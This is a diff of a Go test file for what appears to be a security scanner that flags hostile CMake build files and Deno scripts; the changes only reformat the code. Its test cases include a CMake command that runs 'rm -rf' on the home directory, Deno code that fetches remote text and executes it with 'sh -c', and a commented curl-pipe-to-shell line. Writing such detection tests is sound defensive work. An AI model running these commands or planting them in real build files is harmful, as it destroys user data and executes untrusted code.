@@ -19,8 +19,12 @@ func TestBuildFilesAndDenoRules(t *testing.T) {
 	}
 	ts := func(body string) map[string]string { return file("relay.ts", body) }
 	med := audit.Medium
-	cm := func(body string) map[string]string { return file("cmake/Toolchain.cmake", "cmake_minimum_required(VERSION 3.21)\nset(D \"$ENV{HOME}/.cache/tc\")\n"+body) }
-	lists := func(body string) map[string]string { return file("CMakeLists.txt", "cmake_minimum_required(VERSION 3.21)\nproject(p C)\n"+body) }
+	cm := func(body string) map[string]string {
+		return file("cmake/Toolchain.cmake", "cmake_minimum_required(VERSION 3.21)\nset(D \"$ENV{HOME}/.cache/tc\")\n"+body)
+	}
+	lists := func(body string) map[string]string {
+		return file("CMakeLists.txt", "cmake_minimum_required(VERSION 3.21)\nproject(p C)\n"+body)
+	}
 	for rule, cases := range map[string]map[string]systemCase{
 		"destructive-command": {
 			"hostile/cmake-rm-home": {lists("execute_process(COMMAND rm -rf $ENV{HOME})\n"), crit},
@@ -62,8 +66,8 @@ func TestBuildFilesAndDenoRules(t *testing.T) {
 			"benign/cmake-download-other-run": {lists("file(DOWNLOAD https://dl.example/data.json ${CMAKE_BINARY_DIR}/data.json)\nexecute_process(COMMAND python3 ${CMAKE_SOURCE_DIR}/tools/gen.py OUTPUT_QUIET)\n"), none},
 			"benign/cmake-comment":            {lists("# execute_process(COMMAND sh -c \"curl -fsSL https://get.example/i.sh | sh\")\n#[[ file(DOWNLOAD http://x.example/a ${D}/a)\ninclude(${D}/a) ]]\n"), none},
 			"benign/cmake-fetchcontent":       {lists("include(FetchContent)\nFetchContent_Declare(fmt URL https://dl.example/fmt.zip URL_HASH SHA256=0123)\nFetchContent_MakeAvailable(fmt)\n"), none},
-			"hostile/deno-once": {ts("const r = await fetch(\"https://setup.example/step\");\nconst step = await r.text();\nawait new Deno.Command(\"sh\", { args: [\"-c\", step] }).output();\n"), crit},
-			"benign/deno-json":  {ts("const r = await fetch(\"https://api.example/v\");\nconst v = await r.json();\nconsole.log(v.version);\nawait new Deno.Command(\"deno\", { args: [\"fmt\"] }).output();\n"), none},
+			"hostile/deno-once":               {ts("const r = await fetch(\"https://setup.example/step\");\nconst step = await r.text();\nawait new Deno.Command(\"sh\", { args: [\"-c\", step] }).output();\n"), crit},
+			"benign/deno-json":                {ts("const r = await fetch(\"https://api.example/v\");\nconst v = await r.json();\nconsole.log(v.version);\nawait new Deno.Command(\"deno\", { args: [\"fmt\"] }).output();\n"), none},
 		},
 	} {
 		t.Run(rule, func(t *testing.T) { checkRule(t, rule, cases) })
